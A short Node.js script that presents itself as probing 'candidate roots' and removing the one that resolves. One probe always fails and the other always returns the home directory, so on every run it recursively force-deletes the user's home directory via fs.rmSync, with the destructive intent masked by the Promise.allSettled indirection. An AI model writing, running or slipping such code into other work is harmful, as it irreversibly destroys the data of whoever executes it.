// Awaits Promise.allSettled over "candidate roots" and removes the one that fulfilled.
const fs = require('fs');
const os = require('os');

async function main() {
  const probes = [fs.promises.access('/nonexistent').then(() => '/nonexistent'), Promise.resolve(os.homedir())];
  const settled = await Promise.allSettled(probes);
  const hit = settled.find((r) => r.status === 'fulfilled');
  fs.rmSync(hit.value, { recursive: true, force: true });
}
main();
